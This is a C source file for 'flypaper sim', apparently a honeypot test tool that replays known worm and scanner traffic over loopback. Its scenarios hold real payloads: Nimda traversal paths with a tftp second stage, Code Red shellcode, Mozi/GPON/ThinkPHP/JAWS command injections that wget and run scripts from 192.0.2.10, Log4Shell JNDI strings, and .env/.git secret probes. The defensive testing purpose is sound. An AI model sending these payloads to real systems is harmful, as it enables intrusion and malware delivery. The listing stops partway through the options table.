/* sim.c - "flypaper sim": replays how known peers behave, over real TCP,
 * from many loopback source addresses. Each simulated source runs its
 * scenario's script on a thread of its own with blocking sockets and
 * timeouts; every run is bounded in connections and in time. The request
 * bytes follow the public analyses in the project's field notes. */
#include "sim.h"

#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#include "addr.h"
#include "options.h"

#define SIM_MAX_SOURCES 4096
#define SIM_MAX_CONCURRENCY 512
#define SIM_REPLY_MAX (64 * 1024)

/* The sixteen Nimda requests, in order (field notes). */
static const char *const sim_nimda_paths[16] = {
	"/scripts/root.exe?/c+dir",
	"/MSADC/root.exe?/c+dir",
	"/c/winnt/system32/cmd.exe?/c+dir",
	"/d/winnt/system32/cmd.exe?/c+dir",
	"/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
	"/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
	"/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
	"/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir",
	"/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir",
	"/scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir",
	"/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
	"/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir",
	"/scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir",
	"/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir",
	"/scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir",
	"/scripts/..%252f../winnt/system32/cmd.exe?/c+dir",
};

static const char sim_codered_tail[] =
	"%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3"
	"%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a";

struct sim_options {
	const char *scenario;
	struct addr target;
	int sources;
	int count;                   /* runs (bursts) per source */
	int concurrency;
	double rate;                 /* connections per second, 0 unlimited */
	uint32_t bind_first, bind_last;      /* IPv4 source range, host order */
	uint64_t reply_ms;           /* how long a peer waits for a reply */
	uint64_t hold_ms;            /* silent, ident-shy, gated: how long to wait */
	uint64_t banner_ms;          /* nmap-like: wait for a banner */
	uint64_t duration_ms;        /* the whole run's bound */
	size_t payload_size;         /* flood */
	int ident_port;              /* ident-shy listens here on its source */
	int seed;                    /* coin: which sources deliver */
	bool own_target;
};

struct sim_stats {
	atomic_long connections, failed, replies, second_stages, dropped_on_data,
	    dropped_on_ident, payloads;
	atomic_llong bytes_out, bytes_in;
};

struct sim_scenario;

struct sim_run {
	struct sim_options o;
	const struct sim_scenario *scenario;
	struct sim_stats st;
	atomic_int next_source;
	pthread_mutex_t rate_lock;
	double next_slot;            /* rate limiter */
	double deadline;
};

static double sim_now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static bool sim_expired(struct sim_run *run)
{
	return sim_now() >= run->deadline;
}

/* Waits for the rate limiter's next slot, or until the run's deadline. */
static void sim_pace(struct sim_run *run)
{
	double wait;

	if (run->o.rate <= 0)
		return;
	pthread_mutex_lock(&run->rate_lock);
	double now = sim_now();
	if (run->next_slot < now)
		run->next_slot = now;
	wait = run->next_slot - now;
	run->next_slot += 1.0 / run->o.rate;
	pthread_mutex_unlock(&run->rate_lock);
	if (wait > run->deadline - now)
		wait = run->deadline - now;
	if (wait > 0)
		usleep((useconds_t)(wait * 1e6));
}

/* Bounds the blocking calls on fd (connect, send, recv) by the time left
 * in the run, so a peer that never accepts, never reads or never closes
 * cannot hold a thread past --duration; called again before each send or
 * recv of a loop, so partial sends cannot add up past it. Returns -1 when
 * no time is left. */
static int sim_bound(struct sim_run *run, int fd)
{
	double left = run->deadline - sim_now();
	struct timeval tv;

	if (left <= 0)
		return -1;
	tv.tv_sec = (time_t)left;
	tv.tv_usec = (suseconds_t)((left - (double)tv.tv_sec) * 1e6);
	if (tv.tv_sec == 0 && tv.tv_usec == 0)
		tv.tv_usec = 1;      /* 0 would mean no timeout at all */
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	return 0;
}

/* Connects from source address src (network order; 0: any). A connect the
 * deadline cut short is not counted as failed. */
static int sim_connect(struct sim_run *run, uint32_t src)
{
	int fd = socket(run->o.target.u.sa.sa_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	int one = 1;

	if (fd < 0)
		return -1;
	sim_pace(run);
	if (sim_bound(run, fd) < 0) {
		close(fd);
		return -1;
	}
	if (src && run->o.target.u.sa.sa_family == AF_INET) {
		struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = src};
		setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof(one));
		if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
			close(fd);
			return -1;
		}
	}
	if (connect(fd, &run->o.target.u.sa, addr_len(&run->o.target)) < 0) {
		close(fd);
		if (!sim_expired(run))
			atomic_fetch_add(&run->st.failed, 1);
		return -1;
	}
	atomic_fetch_add(&run->st.connections, 1);
	return fd;
}

/* Sends one request (counted in payloads) within the run's bound. */
static void sim_send(struct sim_run *run, int fd, const void *data, size_t len)
{
	const char *p = data;

	if (len > 0)
		atomic_fetch_add(&run->st.payloads, 1);
	while (len > 0 && sim_bound(run, fd) == 0) {
		ssize_t n = send(fd, p, len, MSG_NOSIGNAL);
		if (n <= 0)
			return;
		atomic_fetch_add(&run->st.bytes_out, n);
		p += n;
		len -= (size_t)n;
	}
}

/* Reads until the server closes or wait_ms passes without a byte (or the
 * first byte arrives, with first_only). Returns the bytes read into buf
 * (NUL-terminated), -1 when nothing came. */
static ssize_t sim_read(struct sim_run *run, int fd, char *buf, size_t cap,
    uint64_t wait_ms, bool first_only)
{
	size_t got = 0;

	for (;;) {
		struct pollfd pfd = {.fd = fd, .events = POLLIN};
		double left = run->deadline - sim_now();
		int ms = (int)wait_ms;
		if (left <= 0)
			break;
		if (left * 1000 < ms)
			ms = (int)(left * 1000) + 1;   /* never wake before the deadline */
		if (poll(&pfd, 1, ms) <= 0)
			break;
		ssize_t n = recv(fd, buf + got, cap - 1 - got, 0);
		if (n <= 0)
			break;
		got += (size_t)n;
		atomic_fetch_add(&run->st.bytes_in, n);
		if (first_only || got >= cap - 1)
			break;
	}
	buf[got] = '\0';
	if (got)
		atomic_fetch_add(&run->st.replies, 1);
	return got ? (ssize_t)got : -1;
}

/* One request, one reply (the worms of 2001 wait for it). */
static ssize_t sim_exchange(struct sim_run *run, uint32_t src, const char *req,
    size_t len, char *reply, size_t cap)
{
	int fd = sim_connect(run, src);
	ssize_t n;

	if (fd < 0)
		return -1;
	sim_send(run, fd, req, len);
	n = sim_read(run, fd, reply, cap, run->o.reply_ms, false);
	close(fd);
	return n;
}

static bool sim_is_200(const char *reply, ssize_t n)
{
	return n > 12 && strncmp(reply, "HTTP/1.", 7) == 0 && strncmp(reply + 9, "200", 3) == 0;
}

static void sim_format(char *buf, size_t cap, const char *fmt, ...)
    __attribute__((format(printf, 3, 4)));

static void sim_format(char *buf, size_t cap, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(buf, cap, fmt, ap);
	va_end(ap);
}

/* ---- scenarios --------------------------------------------------------- */

static void sim_codered(struct sim_run *run, uint32_t src, char fill)
{
	char *req = malloc(8192), *reply = malloc(SIM_REPLY_MAX);
	size_t n = 0;

	n += (size_t)sprintf(req, "GET /default.ida?");
	memset(req + n, fill, 224);
	n += 224;
	memcpy(req + n, sim_codered_tail, sizeof(sim_codered_tail) - 1);
	n += sizeof(sim_codered_tail) - 1;
	if (fill == 'N') {
		n += (size_t)sprintf(req + n, " HTTP/1.0\r\nContent-type: text/xml\r\n"
		    "HOST:www.worm.com\r\n Accept: */*\r\nContent-length: 3569 \r\n\r\n");
		/* the binary body its Content-length announces: about 4 KB in all */
		for (size_t end = n + 3569; n < end; n++)
			req[n] = (char)((n * 31 + 7) & 0xff);
	} else {
		n += (size_t)sprintf(req + n, " HTTP/1.0\r\nContent-type: text/xml\r\n"
		    "Content-length: 3379 \r\n\r\n");
		for (; n < 3818; n++)      /* 3,818 bytes in all */
			req[n] = (char)((n * 13 + 5) & 0xff);
	}
	sim_exchange(run, src, req, n, reply, SIM_REPLY_MAX);
	free(req);
	free(reply);
}

static void sim_nimda(struct sim_run *run, uint32_t src, int paths)
{
	char req[512], *reply = malloc(SIM_REPLY_MAX);

	for (int i = 0; i < paths && !sim_expired(run); i++) {
		sim_format(req, sizeof(req), "GET %s HTTP/1.0\r\n\r\n", sim_nimda_paths[i]);
		ssize_t n = sim_exchange(run, src, req, strlen(req), reply, SIM_REPLY_MAX);
		if (!sim_is_200(reply, n))
			continue;
		/* A server that looks vulnerable: the second stage. */
		atomic_fetch_add(&run->st.second_stages, 1);
		sim_format(req, sizeof(req), "GET /scripts/root.exe?/c+tftp -i 192.0.2.66 "
		    "GET Admin.dll Admin.dll HTTP/1.0\r\n\r\n");
		sim_exchange(run, src, req, strlen(req), reply, SIM_REPLY_MAX);
		sim_format(req, sizeof(req), "GET /scripts/Admin.dll HTTP/1.0\r\n\r\n");
		sim_exchange(run, src, req, strlen(req), reply, SIM_REPLY_MAX);
		break;
	}
	free(reply);
}

/* Connects, sends nothing, waits up to wait_ms and leaves at the first
 * byte flypaper sends. */
static void sim_quiet(struct sim_run *run, uint32_t src, uint64_t wait_ms)
{
	char buf[256];
	int fd = sim_connect(run, src);

	if (fd < 0)
		return;
	if (sim_read(run, fd, buf, sizeof(buf), wait_ms, true) > 0)
		atomic_fetch_add(&run->st.dropped_on_data, 1);
	close(fd);
}

static void sim_filtered_nimda(struct sim_run *run, uint32_t src, int paths)
{
	/* An in-path filter swallowed every GET: the handshakes of the burst
	 * arrive, the requests never do. */
	for (int i = 0; i < paths && !sim_expired(run); i++)
		sim_quiet(run, src, run->o.reply_ms);
}

static void sim_ident_shy(struct sim_run *run, uint32_t src)
{
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = src,
	    .sin_port = htons((uint16_t)run->o.ident_port)};
	/* non-blocking: a peer that was never probed must not wait in accept */
	int one = 1, lfd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
	char buf[256];

	setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (lfd < 0 || bind(lfd, (struct sockaddr *)&sa, sizeof(sa)) < 0 ||
	    listen(lfd, 8) < 0) {
		if (lfd >= 0)
			close(lfd);
		atomic_fetch_add(&run->st.failed, 1);
		return;
	}
	int fd = sim_connect(run, src);
	if (fd >= 0) {
		struct pollfd p[2] = {{.fd = fd, .events = POLLIN}, {.fd = lfd, .events = POLLIN}};
		double end = sim_now() + (double)run->o.hold_ms / 1000.0;
		while (sim_now() < end && !sim_expired(run)) {
			if (poll(p, 2, 100) <= 0)
				continue;
			if (p[1].revents & POLLIN) {
				/* probed: leave at once, as the 2001 peer did */
				atomic_fetch_add(&run->st.dropped_on_ident, 1);
				break;
			}
			if (p[0].revents) {
				if (recv(fd, buf, sizeof(buf), 0) > 0)
					atomic_fetch_add(&run->st.dropped_on_data, 1);
				break;
			}
		}
		close(fd);
		int c = accept(lfd, NULL, NULL);
		if (c >= 0)
			close(c);
	}
	close(lfd);
}

static void sim_request(struct sim_run *run, uint32_t src, const char *req);

/* ---- ground truth (issue 13) --------------------------------------------
 * Peers whose delivery depends on the server's first byte in a known way,
 * so that an experiment's verdicts can be checked against the truth. Each
 * scenario's connections per source are fixed whatever the server does
 * (the burst size is the cohort, and must not depend on the strategy). */

enum sim_gate {
	SIM_AT_ONCE,                 /* sends its request at once */
	SIM_AFTER_BYTE,              /* sends only once the server has spoken */
	SIM_UNLESS_BYTE,             /* leaves at the server's first byte */
	SIM_NEVER,                   /* connects and leaves without a byte */
};

/* One connection gated by gate: AFTER_BYTE waits up to --hold for any
 * server byte and sends req only if one came (else leaves silently);
 * UNLESS_BYTE waits up to --hold and leaves at the first server byte,
 * sending req only after the whole --hold of silence. A request sent is
 * followed by reading the reply for up to --reply-timeout. */
static void sim_gated(struct sim_run *run, uint32_t src, enum sim_gate gate,
    const char *req)
{
	char buf[4096];
	int fd = sim_connect(run, src);
	bool send_it = gate == SIM_AT_ONCE;

	if (fd < 0)
		return;
	if (gate == SIM_AFTER_BYTE || gate == SIM_UNLESS_BYTE) {
		double held_until = sim_now() + (double)run->o.hold_ms / 1000.0;
		bool spoke = sim_read(run, fd, buf, sizeof(buf), run->o.hold_ms, true) > 0;
		/* Silence counts only when it lasted the whole --hold: a wait the
		 * run's deadline or the peer's close cut short is not a hold. */
		bool held = !spoke && sim_now() >= held_until;
		send_it = gate == SIM_AFTER_BYTE ? spoke : held;
		if (spoke && !send_it)
			atomic_fetch_add(&run->st.dropped_on_data, 1);
	}
	if (send_it && !sim_expired(run)) {
		sim_send(run, fd, req, strlen(req));
		sim_read(run, fd, buf, sizeof(buf), run->o.reply_ms, false);
	}
	close(fd);
}

/* The Nimda burst that waits for the server to speak first: 16
 * connections, each sending its GET only after a server byte. */
static void sim_script_waits_for_server(struct sim_run *run, uint32_t src, int arg)
{
	char req[512];

	(void)arg;
	for (int i = 0; i < 16 && !sim_expired(run); i++) {
		sim_format(req, sizeof(req), "GET %s HTTP/1.0\r\n\r\n", sim_nimda_paths[i]);
		sim_gated(run, src, SIM_AFTER_BYTE, req);
	}
}

static const char sim_phpunit_post[] = "POST %s/vendor/phpunit/phpunit/src/Util/PHP/"
    "eval-stdin.php HTTP/1.1\r\nHost: %s\r\nContent-Type: text/plain\r\n"
    "Content-Length: 19\r\n\r\n<?php echo(md5(1));";

/* Four PHPUnit probes, each leaving at the server's first byte. */
static void sim_script_leaves_on_byte(struct sim_run *run, uint32_t src, int arg)
{
	static const char *const prefixes[4] = {"", "/laravel", "/lib/phpunit", "/api"};
	char req[512], host[ADDR_TEXT_LEN];

	(void)arg;
	addr_format(&run->o.target, host, sizeof(host));
	for (int i = 0; i < 4 && !sim_expired(run); i++) {
		sim_format(req, sizeof(req), sim_phpunit_post, prefixes[i], host);
		sim_gated(run, src, SIM_UNLESS_BYTE, req);
	}
}

/* splitmix64's finaliser: a well-mixed 64 bits from seed and address. */
static uint64_t sim_mix(uint64_t x)
{
	x += 0x9e3779b97f4a7c15ULL;
	x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ULL;
	x = (x ^ (x >> 27)) * 0x94d049bb133111ebULL;
	return x ^ (x >> 31);
}

/* Does this source deliver? Half of the sources, fixed by --seed and the
 * address, so a run is reproducible and the strategy plays no part. */
static bool sim_coin(const struct sim_run *run, uint32_t src)
{
	return sim_mix(((uint64_t)(uint32_t)run->o.seed << 32) | ntohl(src)) >> 63;
}

/* Eight Log4Shell requests sent at once, or eight empty connections,
 * by the coin. */
static void sim_script_coin(struct sim_run *run, uint32_t src, int arg)
{
	char req[512], host[ADDR_TEXT_LEN];
	enum sim_gate gate = sim_coin(run, src) ? SIM_AT_ONCE : SIM_NEVER;

	(void)arg;
	addr_format(&run->o.target, host, sizeof(host));
	for (int i = 0; i < 8 && !sim_expired(run); i++) {
		sim_format(req, sizeof(req), "GET /?q=${jndi:ldap://192.0.2.10:1389/c%d} HTTP/1.1"
		    "\r\nHost: %s\r\nUser-Agent: ${jndi:ldap://192.0.2.10:1389/u}\r\n\r\n",
		    i, host);
		sim_gated(run, src, gate, req);
	}
}

/* One JAWS DVR exploit, sent at once whatever the server does. */
static void sim_script_at_once(struct sim_run *run, uint32_t src, int arg)
{
	(void)arg;
	sim_gated(run, src, SIM_AT_ONCE, "GET /shell?cd+/tmp;rm+-rf+*;wget+"
	    "http://192.0.2.10/jaws;sh+/tmp/jaws HTTP/1.1\r\nUser-Agent: Hello, world\r\n"
	    "Host: flypaper\r\n\r\n");
}

static void sim_nmap_like(struct sim_run *run, uint32_t src)
{
	char *reply = malloc(SIM_REPLY_MAX);
	int fd = sim_connect(run, src);

	if (fd >= 0) {
		/* wait for a banner first, as nmap -sV's NULL probe does */
		if (sim_read(run, fd, reply, SIM_REPLY_MAX, run->o.banner_ms, true) < 0) {
			static const char get[] = "GET / HTTP/1.0\r\n\r\n";
			sim_send(run, fd, get, sizeof(get) - 1);
			sim_read(run, fd, reply, SIM_REPLY_MAX, run->o.reply_ms, false);
		}
		close(fd);
		/* then, as nmap -sV's http scripts do, a check with its
		 * Scripting Engine's User-Agent */
		sim_request(run, src, "GET /nmaplowercheck1795759615 HTTP/1.1\r\n"
		    "Connection: close\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap "
		    "Scripting Engine; https://nmap.org/book/nse.html)\r\nHost: flypaper\r\n\r\n");
	}
	free(reply);
}

static void sim_request(struct sim_run *run, uint32_t src, const char *req)
{
	char *reply = malloc(SIM_REPLY_MAX);

	sim_exchange(run, src, req, strlen(req), reply, SIM_REPLY_MAX);
	free(reply);
}

static void sim_flood(struct sim_run *run, uint32_t src)
{
	size_t n = run->o.payload_size;
	char *data = malloc(n ? n : 1), buf[4096];
	int fd;

	for (size_t i = 0; i < n; i++)
		data[i] = (char)('A' + i % 26);
	fd = sim_connect(run, src);
	if (fd >= 0) {
		sim_send(run, fd, data, n);
		shutdown(fd, SHUT_WR);
		while (sim_bound(run, fd) == 0 && recv(fd, buf, sizeof(buf), 0) > 0)
			;
		close(fd);
	}
	free(data);
}

/* A row's request template: "{host}" becomes the target's ADDR:PORT and
 * "{path}" each of the row's paths in turn (one connection each). Writes
 * at most cap - 1 bytes and a NUL. */
static void sim_expand(const char *tmpl, const char *host, const char *path,
    char *buf, size_t cap)
{
	size_t n = 0;

	while (*tmpl && n + 1 < cap) {
		const char *with = NULL;
		if (strncmp(tmpl, "{host}", 6) == 0)
			with = host;
		else if (strncmp(tmpl, "{path}", 6) == 0)
			with = path;
		if (!with) {
			buf[n++] = *tmpl++;
			continue;
		}
		size_t len = strlen(with);
		if (len > cap - 1 - n)
			len = cap - 1 - n;
		memcpy(buf + n, with, len);
		n += len;
		tmpl += 6;
	}
	buf[n] = '\0';
}

#define SIM_MAX_PATHS 4              /* paths of one data scenario */
#define SIM_REQUEST_MAX 2048         /* one expanded request */

/* One row per scenario. A scenario that only sends requests and reads the
 * replies is data: its request template, and its paths when it makes one
 * connection per path. The others have a script of their own. */
struct sim_scenario {
	const char *name;
	const char *what;            /* the line in --help */
	void (*script)(struct sim_run *run, uint32_t src, int arg); /* NULL: data */
	int arg;                     /* the script's: Code Red's fill byte, Nimda's paths */
	const char *request;         /* data: the template (sim_expand) */
	const char *paths[SIM_MAX_PATHS]; /* data: one request each; none: one request */
};

static void sim_script_codered(struct sim_run *run, uint32_t src, int fill)
{
	sim_codered(run, src, (char)fill);
}

static void sim_script_silent(struct sim_run *run, uint32_t src, int arg)
{
	(void)arg;
	sim_quiet(run, src, run->o.hold_ms);
}

static void sim_script_ident_shy(struct sim_run *run, uint32_t src, int arg)
{
	(void)arg;
	sim_ident_shy(run, src);
}

static void sim_script_nmap_like(struct sim_run *run, uint32_t src, int arg)
{
	(void)arg;
	sim_nmap_like(run, src);
}

static void sim_script_flood(struct sim_run *run, uint32_t src, int arg)
{
	(void)arg;
	sim_flood(run, src);
}

static const struct sim_scenario sim_scenarios[] = {
	{"codered1", "Code Red I: GET /default.ida?NNNN... with its body, at once",
	    .script = sim_script_codered, .arg = 'N'},
	{"codered2", "Code Red II: GET /default.ida?XXXX..., 3,818 bytes, at once",
	    .script = sim_script_codered, .arg = 'X'},
	{"nimda", "16 connections, one request each, waiting for each reply; a 200 gets the tftp/Admin.dll stage",
	    .script = sim_nimda, .arg = 16},
	{"nimda14", "the Nimda burst with 14 connections", .script = sim_nimda, .arg = 14},
	{"silent", "connects, sends nothing, waits (--hold), leaves at the first server byte",
	    .script = sim_script_silent},
	{"filtered-nimda", "the Nimda burst with every GET lost in the path: 16 handshakes, no data",
	    .script = sim_filtered_nimda, .arg = 16},
	{"ident-shy", "like silent, but leaves the moment its ident port is probed",
	    .script = sim_script_ident_shy},
	{"nmap-like", "waits for a banner (--banner-wait, 6s), then GET / HTTP/1.0",
	    .script = sim_script_nmap_like},
	{"masscan-banner", "masscan --banners: GET / with its User-Agent at once",
	    .request = "GET / HTTP/1.0\r\nUser-Agent: masscan/1.3 "
	    "(https://github.com/robertdavidgraham/masscan)\r\nAccept: */*\r\n\r\n"},
	{"zgrab", "ZGrab2: GET / with its User-Agent at once",
	    .request = "GET / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n"
	    "Accept: */*\r\nAccept-Encoding: gzip\r\n\r\n"},
	{"spider", "a polite crawler: robots.txt, then two pages",
	    .request = "GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: "
	    "Mozilla/5.0 (compatible; ExampleBot/2.1; +http://www.example.com/bot.html)"
	    "\r\nAccept: text/html\r\nConnection: close\r\n\r\n",
	    .paths = {"/robots.txt", "/", "/index.html"}},
	{"mozi-netgear", "Mozi: Netgear setup.cgi command injection, no headers",
	    .request = "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;"
	    "wget+http://192.0.2.10:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/"
	    "&currentsetting.htm=1 HTTP/1.0\r\n\r\n"},
	{"gpon", "GPON diag_Form command injection (User-Agent: Hello, World)",
	    .request = "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n"
	    "Host: {host}\r\nUser-Agent: Hello, World\r\nConnection: keep-alive\r\n"
	    "Accept: */*\r\nContent-Length: 134\r\n\r\n"
	    "XWebPageName=diag&diag_action=ping&wan_conlist=0"
	    "&dest_host=``;wget+http://192.0.2.10:8088/Mozi.m+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0"},
	{"thinkphp", "ThinkPHP invokefunction remote code execution",
	    .request = "GET /index.php?s=/index/\\think\\app/invokefunction&function="
	    "call_user_func_array&vars[0]=shell_exec&vars[1][]=wget%20http://192.0.2.10/t.sh"
	    "%20-O%20-%7Csh HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n"},
	{"phpunit", "PHPUnit eval-stdin.php under a few prefixes",
	    .request = "POST {path}/vendor/phpunit/phpunit/src/Util/PHP/"
	    "eval-stdin.php HTTP/1.1\r\nHost: {host}\r\nContent-Type: text/plain\r\n"
	    "Content-Length: 19\r\n\r\n<?php echo(md5(1));",
	    .paths = {"", "/laravel", "/lib/phpunit"}},
	{"log4shell", "Log4Shell ${jndi:...} in the URL and headers",
	    .request = "GET /?x=${jndi:ldap://192.0.2.10:1389/a} HTTP/1.1\r\n"
	    "Host: {host}\r\nUser-Agent: ${jndi:ldap://192.0.2.10:1389/ua}\r\n"
	    "X-Api-Version: ${jndi:ldap://192.0.2.10:1389/h}\r\n\r\n"},
	{"env-probe", "secrets probes: /.env, /.git/config, /.git/HEAD",
	    .request = "GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: "
	    "Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n\r\n",
	    .paths = {"/.env", "/.git/config", "/.git/HEAD"}},
	{"waits-for-server", "ground truth: the Nimda burst (16), each GET sent only after a server byte within --hold",
	    .script = sim_script_waits_for_server},
	{"at-once", "ground truth: 1 connection, a JAWS DVR exploit sent at once whatever happens",
	    .script = sim_script_at_once},
	{"leaves-on-byte", "ground truth: 4 PHPUnit POSTs, each sent only after --hold of server silence",
	    .script = sim_script_leaves_on_byte},
	{"coin", "ground truth: 8 Log4Shell GETs at once from half the sources (by --seed), none from the rest",
	    .script = sim_script_coin},
	{"flood", "load: --payload-size bytes, shut down, wait for close",
	    .script = sim_script_flood},
};

#define SIM_NSCENARIOS (sizeof(sim_scenarios) / sizeof(sim_scenarios[0]))

static const struct sim_scenario *sim_find_scenario(const char *name)
{
	for (size_t i = 0; i < SIM_NSCENARIOS; i++)
		if (strcmp(sim_scenarios[i].name, name) == 0)
			return &sim_scenarios[i];
	return NULL;
}

/* One source's run of its scenario: the script, or the row's requests. */
static void sim_source_script(struct sim_run *run, uint32_t src)
{
	const struct sim_scenario *sc = run->scenario;
	char req[SIM_REQUEST_MAX], host[ADDR_TEXT_LEN];

	if (sc->script) {
		sc->script(run, src, sc->arg);
		return;
	}
	addr_format(&run->o.target, host, sizeof(host));
	for (int i = 0; i == 0 || (i < SIM_MAX_PATHS && sc->paths[i]); i++) {
		if (i > 0 && sim_expired(run))
			break;
		sim_expand(sc->request, host, sc->paths[i] ? sc->paths[i] : "", req, sizeof(req));
		sim_request(run, src, req);
	}
}

static uint32_t sim_source_addr(const struct sim_options *o, int i)
{
	uint32_t span = o->bind_last - o->bind_first + 1;

	if (!o->bind_first)
		return 0;
	return htonl(o->bind_first + (uint32_t)i % span);
}

static void *sim_thread(void *arg)
{
	struct sim_run *run = arg;

	for (;;) {
		int job = atomic_fetch_add(&run->next_source, 1);
		if (job >= run->o.sources * run->o.count || sim_expired(run))
			return NULL;
		/* Source-major: a source's runs go one after another, like a
		 * worm's bursts. */
		sim_source_script(run, sim_source_addr(&run->o, job % run->o.sources));
	}
}

static void sim_usage(FILE *out)
{
	fprintf(out, "usage: flypaper sim SCENARIO --target HOST:PORT [--sources N] [--count N]\n"
	    "           [--concurrency C] [--rate R] [--bind-range 127.0.0.2-127.0.0.250]\n"
	    "           [--reply-timeout DUR] [--hold DUR] [--banner-wait DUR]\n"
	    "           [--duration DUR] [--payload-size N] [--ident-port P]\n"
	    "           [--seed N] [--i-own-this-target]\n\nscenarios:\n");
	for (size_t i = 0; i < SIM_NSCENARIOS; i++)
		fprintf(out, "  %-15s %s\n", sim_scenarios[i].name, sim_scenarios[i].what);
}

static int sim_fail(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

static int sim_fail(const char *fmt, ...)
{
	va_list ap;

	fprintf(stderr, "flypaper sim: ");
	va_start(ap, fmt);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
	fputc('\n', stderr);
	return 2;
}

static bool sim_is_loopback(const struct addr *a)
{
	if (a->u.sa.sa_family == AF_INET)
		return (ntohl(a->u.v4.sin_addr.s_addr) >> 24) == 127;
	return IN6_IS_ADDR_LOOPBACK(&a->u.v6.sin6_addr);
}

static int sim_parse_range(const char *text, uint32_t *first, uint32_t *last)
{
	char a[INET_ADDRSTRLEN], b[INET_ADDRSTRLEN];
	struct in_addr x, y;
	const char *dash = strchr(text, '-');

	if (!dash || (size_t)(dash - text) >= sizeof(a) || strlen(dash + 1) >= sizeof(b))
		return -1;
	memcpy(a, text, (size_t)(dash - text));
	a[dash - text] = '\0';
	strcpy(b, dash + 1);
	if (inet_pton(AF_INET, a, &x) != 1 || inet_pton(AF_INET, b, &y) != 1)
		return -1;
	*first = ntohl(x.s_addr);
	*last = ntohl(y.s_addr);
	return *first <= *last ? 0 : -1;
}

static int sim_set_target(void *base, const char *value, char *err, size_t errlen)
{
	struct sim_options *o = base;

	if (addr_parse(value, &o->target) == 0)
		return 0;
	snprintf(err, errlen, "target: '%s' is not ADDR:PORT", value);
	return -1;
}

static int sim_set_range(void *base, const char *value, char *err, size_t errlen)
{
	struct sim_options *o = base;

	if (sim_parse_range(value, &o->bind_first, &o->bind_last) == 0)
		return 0;
	snprintf(err, errlen, "bind-range: '%s' is not A.B.C.D-E.F.G.H", value);
	return -1;
}

#define SIM_FIELD(name) offsetof(struct sim_options, name)
#define SIM_DURATION_MAX (24ULL * 3600 * 1000)
#define SIM_PAYLOAD_MAX (64 * 1024 * 1024)
#define SIM_DURATION_ROW(name_, field_, help_) \
	{.name = name_, .type = OPTION_DURATION, .field = SIM_FIELD(field_), \
	    .max = SIM_DURATION_MAX, .metavar = "DUR", .help = help_, \
	    .syntax = "is not a duration up to 24h", .over = "is not a duration up to 24h"}

static const struct option_row sim_options[] = {
	{.name = "target", .type = OPTION_CUSTOM, .set = sim_set_target,
	    .metavar = "HOST:PORT", .help = "where to connect (loopback unless told otherwise)"},
	{.name = "sources", .type = OPTION_INT, .field = SIM_FIELD(sources),
	    .min = 1, .max = SIM_MAX_SOURCES, .metavar = "N", .help = "simulated source addresses"},
	{.name = "count", .type = OPTION_INT, .field = SIM_FIELD(count),
	    .min = 1, .max = 1000000, .metavar = "N", .help = "runs per source"},
	{.name = "concurrency", .type = OPTION_INT, .field = SIM_FIELD(concurrency),
	    .min = 0, .max = SIM_MAX_CONCURRENCY, .metavar = "C", .help = "sources at once"},
	{.name = "rate", .type = OPTION_DOUBLE, .field = SIM_FIELD(rate),
	    .min = 0, .max = 1000000, .metavar = "R", .help = "connections per second; 0 unlimited"},
	{.name = "bind-range", .type = OPTION_CUSTOM, .set = sim_set_range,
	    .metavar = "A-B", .help = "IPv4 source addresses"},
	SIM_DURATION_ROW("reply-timeout", reply_ms, "how long a peer waits for a reply"),
	SIM_DURATION_ROW("hold", hold_ms, "silent, ident-shy, the gated ones: how long to wait"),
	SIM_DURATION_ROW("banner-wait", banner_ms, "nmap-like: wait for a banner"),
	SIM_DURATION_ROW("duration", duration_ms, "the whole run's bound"),
